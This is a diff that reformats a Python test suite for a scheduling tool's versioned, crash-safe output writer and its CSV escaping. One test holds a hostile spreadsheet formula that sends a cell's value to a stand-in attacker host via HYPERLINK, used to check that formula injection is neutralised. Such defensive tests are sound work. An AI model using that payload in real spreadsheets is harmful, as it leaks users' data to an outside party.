@@ -39,8 +39,11 @@ def snapshot(folder: Path) -> dict[str, bytes]:
     """Every file under ``folder`` (relative name → content); {} when it does not exist."""
     if not folder.exists():
         return {}
-    return {p.relative_to(folder).as_posix(): p.read_bytes()
-            for p in sorted(folder.rglob("*")) if p.is_file()}
+    return {
+        p.relative_to(folder).as_posix(): p.read_bytes()
+        for p in sorted(folder.rglob("*"))
+        if p.is_file()
+    }
 
 
 def leftovers(out: Path) -> list[str]:
@@ -85,12 +88,16 @@ def test_each_run_replaces_the_whole_result_and_old_versions_are_pruned(tmp_path
 
 def test_based_on_keeps_the_earlier_files_and_adds_the_changes(tmp_path: Path) -> None:
     out = tmp_path / "schedule"
-    write_outputs(out, {"schedule.json": b"{1}", "invites/R-1.ics": b"one",
-                        "invites/R-2.ics": b"two"})
+    write_outputs(
+        out, {"schedule.json": b"{1}", "invites/R-1.ics": b"one", "invites/R-2.ics": b"two"}
+    )
     base = current_version(out)
     write_outputs(out, {"schedule.json": b"{2}", "invites/R-2.ics": b"moved"}, based_on=base)
-    assert snapshot(out) == {"schedule.json": b"{2}", "invites/R-1.ics": b"one",
-                             "invites/R-2.ics": b"moved"}
+    assert snapshot(out) == {
+        "schedule.json": b"{2}",
+        "invites/R-1.ics": b"one",
+        "invites/R-2.ics": b"moved",
+    }
     assert snapshot(base)["invites/R-2.ics"] == b"two"  # the earlier version is untouched
 
 
@@ -112,18 +119,23 @@ def test_without_replace_a_different_earlier_result_is_refused(tmp_path: Path) -
     write_outputs(out, first, replace=False)  # nothing there yet
     assert versions(out) == ["v000001"]
     # the same files again (re-running the same batch): fine, and no new version
-    assert write_outputs(out, dict(first), replace=False) == [out / "allocations.csv",
-                                                              out / "invites" / "R-1.ics"]
+    assert write_outputs(out, dict(first), replace=False) == [
+        out / "allocations.csv",
+        out / "invites" / "R-1.ics",
+    ]
     assert versions(out) == ["v000001"]
     # a file changed, or one left out: refused, nothing written
-    for changed in ({"allocations.csv": b"b\n", "invites/R-1.ics": b"one"},
-                    {"allocations.csv": b"a\n"}):
+    for changed in (
+        {"allocations.csv": b"b\n", "invites/R-1.ics": b"one"},
+        {"allocations.csv": b"a\n"},
+    ):
         with pytest.raises(EarlierResultError) as error:
             write_outputs(out, changed, replace=False)
         assert str(error.value) == (
             f"{out} holds an earlier result that differs from this one; nothing was written. "
             "Add --force to replace it (the earlier files are kept in .out.versions/ until "
-            "the next run), or choose another folder")
+            "the next run), or choose another folder"
+        )
         assert snapshot(out) == first and versions(out) == ["v000001"]
         assert leftovers(out) == []
     # the same files and a new one (a proposal, then the same proposal booked): fine
@@ -160,7 +172,8 @@ def test_refuse_earlier_checks_before_anything_is_written(tmp_path: Path) -> Non
 
 
 def test_without_replace_a_plain_folder_of_an_earlier_release_counts_as_a_result(
-        tmp_path: Path) -> None:
+    tmp_path: Path,
+) -> None:
     out = tmp_path / "out"
     out.mkdir()
     (out / "allocations.csv").write_bytes(b"old")
@@ -185,8 +198,9 @@ def test_a_plain_folder_from_an_earlier_release_is_kept_aside(tmp_path: Path) ->
     assert snapshot(tmp_path / ".out.versions" / "legacy") == old
 
 
-def test_a_plain_folder_with_other_files_is_refused(tmp_path: Path,
-                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_plain_folder_with_other_files_is_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     out = tmp_path / "project"
     out.mkdir()
     (out / "allocations.csv").write_bytes(b"old")
@@ -211,8 +225,9 @@ def test_updating_a_plain_folder_carries_its_files(tmp_path: Path) -> None:
     assert snapshot(out) == {"schedule.json": b"{2}", "invites/R-1.ics": b"one"}
 
 
-def test_failure_while_writing_changes_nothing(tmp_path: Path,
-                                               monkeypatch: pytest.MonkeyPatch) -> None:
+def test_failure_while_writing_changes_nothing(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     out = tmp_path / "out"
     write_outputs(out, {"allocations.csv": b"old"})
     real_open = Path.open
@@ -224,8 +239,9 @@ def test_failure_while_writing_changes_nothing(tmp_path: Path,
 
     monkeypatch.setattr(Path, "open", failing_open)
     with pytest.raises(OSError, match="No space"):
-        write_outputs(out, {"allocations.csv": b"new", "invites/R-1.ics": b"x",
-                            "proposals.csv": b"p"})
+        write_outputs(
+            out, {"allocations.csv": b"new", "invites/R-1.ics": b"x", "proposals.csv": b"p"}
+        )
     monkeypatch.undo()
     assert snapshot(out) == {"allocations.csv": b"old"}
     assert leftovers(out) == []
@@ -245,8 +261,9 @@ def test_staging_left_by_a_killed_run_is_cleaned_up(tmp_path: Path) -> None:
     assert snapshot(out) == {"a.csv": b"3"}  # nothing of the half-written run
 
 
-@pytest.mark.parametrize("name", ["../escape.csv", "/abs.csv", "a/b/c.csv", "", "a\\b.csv",
-                                  "./x.csv"])
+@pytest.mark.parametrize(
+    "name", ["../escape.csv", "/abs.csv", "a/b/c.csv", "", "a\\b.csv", "./x.csv"]
+)
 def test_bad_names_are_refused_before_writing(tmp_path: Path, name: str) -> None:
     with pytest.raises(ValueError, match="bad output file name"):
         write_outputs(tmp_path / "out", {"ok.csv": b"1", name: b"2"})
@@ -265,22 +282,34 @@ def test_a_file_in_the_way_is_an_input_error(tmp_path: Path) -> None:
 # Real processes: kills and concurrent readers and writers -------------------------------
 
 
-def run(*args: str | Path, kill_after: int | None = None, cwd: Path | None = None,
-        ) -> subprocess.CompletedProcess[str]:
+def run(
+    *args: str | Path, kill_after: int | None = None, cwd: Path | None = None
+) -> subprocess.CompletedProcess[str]:
     env = {k: v for k, v in os.environ.items() if k != KILL_AFTER_ENV}
     if kill_after is not None:
         env[KILL_AFTER_ENV] = str(kill_after)
-    return subprocess.run([sys.executable, *map(str, args)], capture_output=True, text=True,
-                          env=env, cwd=cwd or ROOT, timeout=300, check=False)
+    return subprocess.run(
+        [sys.executable, *map(str, args)],
+        capture_output=True,
+        text=True,
+        env=env,
+        cwd=cwd or ROOT,
+        timeout=300,
+        check=False,
+    )
 
 
-def jags_run(*args: str | Path, kill_after: int | None = None,
-             ) -> subprocess.CompletedProcess[str]:
+def jags_run(*args: str | Path, kill_after: int | None = None) -> subprocess.CompletedProcess[str]:
     return run("-m", "jags.cli", *args, kill_after=kill_after)
 
 
-def kill_at_every_step(out: Path, command: tuple[str | Path, ...], old: dict[str, bytes],
-                       new: dict[str, bytes], steps: int) -> None:
+def kill_at_every_step(
+    out: Path,
+    command: tuple[str | Path, ...],
+    old: dict[str, bytes],
+    new: dict[str, bytes],
+    steps: int,
+) -> None:
     """Kill ``command`` after each writer step (each file staged, the version renamed, the
     new pointer made, the pointer swapped); the folder always shows old or new, whole.
     Before each run the folder is put back to ``old`` (as a new version) if it moved on."""
@@ -312,8 +341,12 @@ def test_allocate_killed_at_every_file_boundary(tmp_path: Path, sample_dir: Path
     command = ("allocate", sample_dir, "--on", "2026-11-23", "--format", "xlsx", "--out")
     assert jags_run(*command, reference).returncode == 0
     new = snapshot(reference)
-    assert sorted(new) == ["allocations.csv", "allocations.xlsx", "explanations.csv",
-                           "facilitator_status.csv"]
+    assert sorted(new) == [
+        "allocations.csv",
+        "allocations.xlsx",
+        "explanations.csv",
+        "facilitator_status.csv",
+    ]
     # 3 files, the version rename, the new pointer, the swap, the pruning (--force: the
     # earlier result in the folder is to be replaced).
     kill_at_every_step(out, (*command, out, "--force"), old, new, steps=len(new) + 4)
@@ -330,8 +363,9 @@ def small_schedule(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path
     return workspace, folder / "allocated" / "allocations.csv"
 
 
-def test_schedule_killed_at_every_file_boundary(tmp_path: Path,
-                                                small_schedule: tuple[Path, Path]) -> None:
+def test_schedule_killed_at_every_file_boundary(
+    tmp_path: Path, small_schedule: tuple[Path, Path]
+) -> None:
     workspace, allocations = small_schedule
     out = tmp_path / "out"
     command = ("schedule", workspace, "--allocations", allocations, "--out")
@@ -341,29 +375,52 @@ def test_schedule_killed_at_every_file_boundary(tmp_path: Path,
     assert jags_run(*command, reference, "--confirmed-on", "2026-11-30").returncode == 0
     new = snapshot(reference)
     assert len([n for n in new if n.startswith("invites/")]) >= 4
-    kill_at_every_step(out, (*command, out, "--confirmed-on", "2026-11-30", "--force"), old,
-                       new, steps=len(new) + 4)
+    kill_at_every_step(
+        out,
+        (*command, out, "--confirmed-on", "2026-11-30", "--force"),
+        old,
+        new,
+        steps=len(new) + 4,
+    )
 
 
-def test_invite_killed_at_every_file_boundary(tmp_path: Path,
-                                              small_schedule: tuple[Path, Path]) -> None:
+def test_invite_killed_at_every_file_boundary(
+    tmp_path: Path, small_schedule: tuple[Path, Path]
+) -> None:
     workspace, allocations = small_schedule
     out = tmp_path / "out"
-    assert jags_run("schedule", workspace, "--allocations", allocations, "--out", out,
-                    "--confirmed-on", "2026-11-30").returncode == 0
+    assert (
+        jags_run(
+            "schedule",
+            workspace,
+            "--allocations",
+            allocations,
+            "--out",
+            out,
+            "--confirmed-on",
+            "2026-11-30",
+        ).returncode
+        == 0
+    )
     old = snapshot(out)
     reference = tmp_path / "reference"
     shutil.copytree(out, reference)
-    rid = sorted(n.removeprefix("invites/").removesuffix(".ics") for n in old
-                 if n.endswith(".ics"))[0]
+    rid = sorted(
+        n.removeprefix("invites/").removesuffix(".ics") for n in old if n.endswith(".ics")
+    )[0]
     command = ("invite", reference, "--choose", f"{rid}=2", "--on", "2026-12-01")
     assert jags_run(*command).returncode == 0
     new = snapshot(reference)
     changed = {name for name in new if new[name] != old.get(name)}
     assert changed == {"schedule.json", f"invites/{rid}.ics", f"invites/{rid}.eml"}
     assert set(new) == set(old)  # every earlier invitation is still there
-    kill_at_every_step(out, ("invite", out, "--choose", f"{rid}=2", "--on", "2026-12-01"),
-                       old, new, steps=len(changed) + 4)
+    kill_at_every_step(
+        out,
+        ("invite", out, "--choose", f"{rid}=2", "--on", "2026-12-01"),
+        old,
+        new,
+        steps=len(changed) + 4,
+    )
 
 
 WRITER = textwrap.dedent("""
@@ -394,8 +451,11 @@ def test_a_killed_upgrade_of_a_plain_folder_never_shows_a_mix(tmp_path: Path) ->
             (out / name).write_bytes(content)
         done = run(script, out, "new", "1", kill_after=n)
         seen = snapshot(out)
-        assert seen in ({}, old, {k: b"new-0" for k in ("allocations.csv", "explanations.csv",
-                                                          "invites/R-1.ics")}), (n, seen)
+        assert seen in (
+            {},
+            old,
+            {k: b"new-0" for k in ("allocations.csv", "explanations.csv", "invites/R-1.ics")},
+        ), (n, seen)
         if not seen:  # killed between moving the old folder aside and the swap
             assert snapshot(tmp_path / ".out.versions" / "legacy") == old
         assert done.returncode == -9, done.stderr
@@ -405,17 +465,23 @@ def test_readers_never_see_a_mix_while_writers_run(tmp_path: Path) -> None:
     out = tmp_path / "out"
     script = tmp_path / "writer.py"
     script.write_text(WRITER, "utf-8")
-    write_outputs(out, {"allocations.csv": b"first", "explanations.csv": b"first",
-                        "invites/R-1.ics": b"first"})
-    writers = [subprocess.Popen([sys.executable, str(script), str(out), tag, "60"], cwd=ROOT)
-               for tag in ("a", "b")]
+    write_outputs(
+        out,
+        {"allocations.csv": b"first", "explanations.csv": b"first", "invites/R-1.ics": b"first"},
+    )
+    writers = [
+        subprocess.Popen([sys.executable, str(script), str(out), tag, "60"], cwd=ROOT)
+        for tag in ("a", "b")
+    ]
     reads = 0
     try:
         while any(w.poll() is None for w in writers):
             folder = current_version(out)
             try:
-                seen = {(folder / n).read_bytes()
-                        for n in ("allocations.csv", "explanations.csv", "invites/R-1.ics")}
+                seen = {
+                    (folder / n).read_bytes()
+                    for n in ("allocations.csv", "explanations.csv", "invites/R-1.ics")
+                }
             except FileNotFoundError:  # that version was pruned meanwhile: read again
                 continue
             assert len(seen) == 1, seen
@@ -438,8 +504,13 @@ def test_readers_never_see_a_mix_while_writers_run(tmp_path: Path) -> None:
 def test_csv_bytes_is_deterministic() -> None:
     rows: list[list[object]] = [
         ["R-1", None, True, date(2026, 4, 3), 3],
-        ["R-2", 'say "hi", then\nleave', False,
-         datetime(2026, 7, 1, 14, 5, tzinfo=timezone(timedelta(hours=1))), 2.5],
+        [
+            "R-2",
+            'say "hi", then\nleave',
+            False,
+            datetime(2026, 7, 1, 14, 5, tzinfo=timezone(timedelta(hours=1))),
+            2.5,
+        ],
     ]
     data = csv_bytes(["request_id", "note", "eligible", "on", "score"], rows)
     assert data == (
@@ -458,26 +529,38 @@ class Colour(StrEnum):
 @pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
 def test_text_starting_with_a_formula_character_is_written_as_text(prefix: str) -> None:
     hostile = f'{prefix}HYPERLINK("http://evil.example/?leak="&B2,"Click")'
-    data = csv_bytes(["id", "text", "number", "day", "flag"],
-                     [[f"{prefix}R1", hostile, -3, date(2026, 1, 2), False], [Colour.ODD, "", -2.5,
-                                                                               None, True]])
+    data = csv_bytes(
+        ["id", "text", "number", "day", "flag"],
+        [[f"{prefix}R1", hostile, -3, date(2026, 1, 2), False], [Colour.ODD, "", -2.5, None, True]],
+    )
     rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
     lf = prefix.replace("\r", "\n")  # a carriage return is written as a line feed
     assert rows[1] == [f"'{lf}R1", f"'{lf}{hostile[1:]}", "-3", "2026-01-02", "false"]
     assert rows[2] == ["'=odd", "", "-2.5", "", "true"]  # numbers stay numbers
-    assert not any(cell.startswith(FORMULA_PREFIXES) for row in rows for cell in row
-                   if not cell.lstrip("-").replace(".", "").isdigit())
+    assert not any(
+        cell.startswith(FORMULA_PREFIXES)
+        for row in rows
+        for cell in row
+        if not cell.lstrip("-").replace(".", "").isdigit()
+    )
 
 
 def test_line_breaks_never_split_a_row() -> None:
     data = csv_bytes(["a", "b"], [["one\rtwo\r\nthree", "x"]])
     assert list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""))) == [
-        ["a", "b"], ["one\ntwo\nthree", "x"]]
+        ["a", "b"],
+        ["one\ntwo\nthree", "x"],
+    ]
 
 
 def test_safe_text_leaves_ordinary_text_alone() -> None:
     assert [safe_text(t) for t in ("R-0001", "Allocated to F001", "", "'quoted", "a=b")] == [
-        "R-0001", "Allocated to F001", "", "'quoted", "a=b"]
+        "R-0001",
+        "Allocated to F001",
+        "",
+        "'quoted",
+        "a=b",
+    ]
     assert safe_text("-1") == "'-1"  # text that looks like a number is still text
 
 
@@ -534,10 +617,13 @@ def test_stable_zip_ignores_the_modified_stamp_office_sets_on_save() -> None:
     def book(modified: str) -> bytes:
         buffer = io.BytesIO()
         with zipfile.ZipFile(buffer, "w") as z:
-            z.writestr("docProps/core.xml",
-                       '<cp:coreProperties><dcterms:created x="1">2026-11-23T00:00:00Z'
-                       '</dcterms:created><dcterms:modified x="1">' + modified +
-                       '</dcterms:modified></cp:coreProperties>')
+            z.writestr(
+                "docProps/core.xml",
+                '<cp:coreProperties><dcterms:created x="1">2026-11-23T00:00:00Z'
+                '</dcterms:created><dcterms:modified x="1">'
+                + modified
+                + "</dcterms:modified></cp:coreProperties>",
+            )
         return buffer.getvalue()
 
     one = stable_zip(book("2026-11-21T05:01:02Z"))
